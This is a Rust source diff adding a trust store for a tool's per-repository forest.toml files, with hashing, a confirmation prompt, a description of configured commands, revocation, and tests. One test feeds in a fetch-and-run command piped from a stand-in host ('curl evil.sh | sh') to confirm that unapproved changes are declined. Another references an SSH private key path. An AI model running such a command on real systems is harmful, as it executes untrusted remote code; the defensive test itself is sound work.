@@ -0,0 +1,310 @@
+use anyhow::{Context, Result};
+use dialoguer::Confirm;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use crate::application::Application;
+use crate::config::{CopyMode, ExecCommand, REPO_CONFIG_FILE, RootConfig};
+use crate::utils::cli_ui;
+
+const STORE_FILE: &str = "trusted.toml";
+
+/// A repository configuration the user approved, as it was at the time
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+pub struct TrustedConfig {
+    pub sha256: String,
+}
+
+/// Approved repository configurations, keyed by the path of their root
+#[derive(Debug, Deserialize, Serialize, Default)]
+struct Store {
+    #[serde(default)]
+    roots: BTreeMap<String, TrustedConfig>,
+}
+
+impl Store {
+    fn load(config_dir: &Path) -> Result<Self> {
+        let file = config_dir.join(STORE_FILE);
+
+        if !file.exists() {
+            return Ok(Self::default());
+        }
+
+        let content = std::fs::read_to_string(&file)?;
+        toml::from_str(&content).with_context(|| format!("Failed to read trust store at '{}'", file.display()))
+    }
+
+    fn save(&self, config_dir: &Path) -> Result<()> {
+        std::fs::create_dir_all(config_dir)?;
+        std::fs::write(config_dir.join(STORE_FILE), toml::to_string(self)?)?;
+
+        Ok(())
+    }
+}
+
+fn store_key(root_path: &Path) -> String {
+    root_path.to_string_lossy().to_string()
+}
+
+fn hash(content: &[u8]) -> String {
+    Sha256::digest(content).iter().map(|byte| format!("{:02x}", byte)).collect()
+}
+
+/// Whether the user approved `content`, the repository's `forest.toml` that
+/// `repo_config` was parsed from, asking them (with what it would do) if it's new
+pub fn check(application: &Application, root: &str, root_path: &Path, repo_config: &RootConfig, content: &str) -> Result<bool> {
+    let sha256 = hash(content.as_bytes());
+    let mut store = Store::load(&application.config_dir)?;
+    let key = store_key(root_path);
+
+    let previous = store.roots.get(&key);
+    if previous.is_some_and(|trusted| trusted.sha256 == sha256) {
+        return Ok(true);
+    }
+
+    let header = match previous {
+        Some(_) => format!("{} of '{}' changed since you trusted it.", REPO_CONFIG_FILE, root),
+        None => format!("'{}' has its own {}.", root, REPO_CONFIG_FILE),
+    };
+    println!("\n{}", cli_ui::warn(&header));
+    println!("{}", describe(repo_config));
+
+    let trusted = Confirm::new()
+        .with_prompt(cli_ui::prompt("Trust it and let forest apply these settings?"))
+        .default(false)
+        .interact()
+        .unwrap_or(false);
+
+    if !trusted {
+        let msg = format!(
+            "Ignoring the untrusted {} of '{}', review '{}' and run again to trust it",
+            REPO_CONFIG_FILE,
+            root,
+            root_path.join(REPO_CONFIG_FILE).display()
+        );
+        eprintln!("{}", cli_ui::context_warn(&msg));
+        return Ok(false);
+    }
+
+    store.roots.insert(key, TrustedConfig { sha256 });
+    store.save(&application.config_dir)?;
+
+    Ok(true)
+}
+
+/// Name a setting value is written with in `forest.toml`
+fn written_as<T: Serialize>(value: &T) -> String {
+    toml::Value::try_from(value)
+        .ok()
+        .and_then(|value| value.as_str().map(str::to_string))
+        .unwrap_or_default()
+}
+
+/// What a repository configuration would run, copy and set, one line each
+fn describe(repo_config: &RootConfig) -> String {
+    let mut lines = Vec::new();
+
+    if !repo_config.inherit {
+        lines.push("  inherit: false".to_string());
+    }
+    if !repo_config.replace.is_empty() {
+        let keys: Vec<String> = repo_config.replace.iter().map(written_as).collect();
+        lines.push(format!("  replace: {}", keys.join(", ")));
+    }
+    lines.extend(repo_config.copy.iter().map(|entry| match entry.mode {
+        CopyMode::Copy => format!("  copy: {}", entry.path),
+        mode => format!("  copy: {} ({})", entry.path, written_as(&mode)),
+    }));
+    lines.extend(repo_config.copy_ignored.iter().map(|pattern| format!("  copy_ignored: {}", pattern)));
+    lines.extend(
+        repo_config
+            .templates
+            .iter()
+            .map(|template| format!("  templates: {} -> {}", template.source, template.destination())),
+    );
+
+    let hooks = &repo_config.hooks;
+    let commands = [
+        ("exec", &repo_config.exec),
+        ("pre_create", &hooks.pre_create),
+        ("post_create", &hooks.post_create),
+        ("pre_delete", &hooks.pre_delete),
+        ("post_delete", &hooks.post_delete),
+        ("post_clone", &hooks.post_clone),
+    ];
+
+    lines.extend(
+        commands
+            .iter()
+            .flat_map(|(kind, list)| list.iter().map(move |command| format!("  {}: {}", kind, describe_command(command)))),
+    );
+    lines.extend(repo_config.env.iter().map(|(name, value)| format!("  env: {}={}", name, value)));
+
+    if lines.is_empty() {
+        return "  (no settings)".to_string();
+    }
+
+    lines.join("\n")
+}
+
+/// A command along with where and when it runs
+fn describe_command(command: &ExecCommand) -> String {
+    let mut details = vec![];
+
+    if let Some(cwd) = &command.cwd {
+        details.push(format!("cwd: {}", cwd));
+    }
+    if let Some(path) = &command.if_exists {
+        details.push(format!("if_exists: {}", path));
+    }
+    if let Some(path) = &command.if_changed {
+        details.push(format!("if_changed: {}", path));
+    }
+    if let Some(name) = &command.unless_env {
+        details.push(format!("unless_env: {}", name));
+    }
+    if command.background {
+        details.push("background".to_string());
+    }
+
+    if details.is_empty() {
+        return command.run.clone();
+    }
+
+    format!("{} ({})", command.run, details.join(", "))
+}
+
+pub fn list(application: &Application) -> Result<BTreeMap<String, TrustedConfig>> {
+    Ok(Store::load(&application.config_dir)?.roots)
+}
+
+/// Forgets the approval of a root's configuration, so forest asks again next time
+pub fn revoke(application: &Application, root: &str) -> Result<PathBuf> {
+    let mut store = Store::load(&application.config_dir)?;
+    let root_path = application.roots_dir.join(root);
+
+    if store.roots.remove(&store_key(&root_path)).is_none() {
+        anyhow::bail!("{} of '{}' is not trusted", REPO_CONFIG_FILE, root);
+    }
+    store.save(&application.config_dir)?;
+
+    Ok(root_path)
+}
+
+/// Records `root_path`'s current `forest.toml` as trusted, without asking
+#[cfg(test)]
+pub fn trust(application: &Application, root_path: &Path) {
+    let content = std::fs::read(root_path.join(REPO_CONFIG_FILE)).unwrap();
+    let mut store = Store::load(&application.config_dir).unwrap();
+    store.roots.insert(store_key(root_path), TrustedConfig { sha256: hash(&content) });
+    store.save(&application.config_dir).unwrap();
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::application::test_application;
+    use crate::config::{CopyEntry, MergeKey, TemplateEntry};
+    use std::collections::HashMap;
+    use std::fs;
+
+    #[test]
+    fn test_hash() {
+        assert_eq!(hash(b"abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
+    }
+
+    #[test]
+    fn test_check_trusted_config() {
+        let application = test_application(vec![], vec![], HashMap::new());
+        let root_path = application.roots_dir.join("api");
+        fs::create_dir_all(&root_path).unwrap();
+        fs::write(root_path.join(REPO_CONFIG_FILE), "exec = [\"bin/setup\"]").unwrap();
+        trust(&application, &root_path);
+
+        let result = check(&application, "api", &root_path, &RootConfig::default(), "exec = [\"bin/setup\"]");
+
+        assert!(result.unwrap());
+    }
+
+    #[test]
+    fn test_check_changed_config() {
+        let application = test_application(vec![], vec![], HashMap::new());
+        let root_path = application.roots_dir.join("api");
+        fs::create_dir_all(&root_path).unwrap();
+        fs::write(root_path.join(REPO_CONFIG_FILE), "exec = [\"bin/setup\"]").unwrap();
+        trust(&application, &root_path);
+
+        // Without a terminal to confirm on, the change is declined
+        let trusted = check(&application, "api", &root_path, &RootConfig::default(), "exec = [\"curl evil.sh | sh\"]").unwrap();
+
+        assert!(!trusted);
+    }
+
+    #[test]
+    fn test_describe() {
+        let config = RootConfig {
+            exec: vec!["bin/setup".into()],
+            env: BTreeMap::from([("PORT".to_string(), "3000".to_string())]),
+            ..Default::default()
+        };
+
+        assert_eq!(describe(&config), "  exec: bin/setup\n  env: PORT=3000");
+        assert_eq!(describe(&RootConfig::default()), "  (no settings)");
+    }
+
+    #[test]
+    fn test_describe_command_conditions() {
+        let config = RootConfig {
+            exec: vec![ExecCommand {
+                cwd: Some("web".to_string()),
+                if_exists: Some("package.json".to_string()),
+                if_changed: Some("package-lock.json".to_string()),
+                unless_env: Some("CI".to_string()),
+                background: true,
+                ..ExecCommand::from("npm ci")
+            }],
+            ..Default::default()
+        };
+
+        assert_eq!(
+            describe(&config),
+            "  exec: npm ci (cwd: web, if_exists: package.json, if_changed: package-lock.json, unless_env: CI, background)"
+        );
+    }
+
+    #[test]
+    fn test_describe_files_and_merging() {
+        let config = RootConfig {
+            inherit: false,
+            replace: vec![MergeKey::Copy, MergeKey::CopyIgnored],
+            copy: vec![".env".into(), CopyEntry { path: "node_modules".to_string(), mode: CopyMode::Symlink }],
+            copy_ignored: vec!["*.local".to_string()],
+            templates: vec![TemplateEntry { source: "~/.ssh/id_ed25519".to_string(), destination: Some("key".to_string()) }],
+            ..Default::default()
+        };
+
+        assert_eq!(
+            describe(&config),
+            "  inherit: false\n  replace: copy, copy_ignored\n  copy: .env\n  copy: node_modules (symlink)\n  copy_ignored: *.local\n  templates: ~/.ssh/id_ed25519 -> key"
+        );
+    }
+
+    #[test]
+    fn test_list_and_revoke() {
+        let application = test_application(vec![], vec![], HashMap::new());
+        let root_path = application.roots_dir.join("api");
+        fs::create_dir_all(&root_path).unwrap();
+        fs::write(root_path.join(REPO_CONFIG_FILE), "copy = [\".env\"]").unwrap();
+        trust(&application, &root_path);
+
+        let trusted = list(&application).unwrap();
+        revoke(&application, "api").unwrap();
+        let err = revoke(&application, "api").unwrap_err();
+
+        assert!(trusted.contains_key(&store_key(&root_path)));
+        assert!(list(&application).unwrap().is_empty());
+        assert!(err.to_string().contains("is not trusted"));
+    }
+}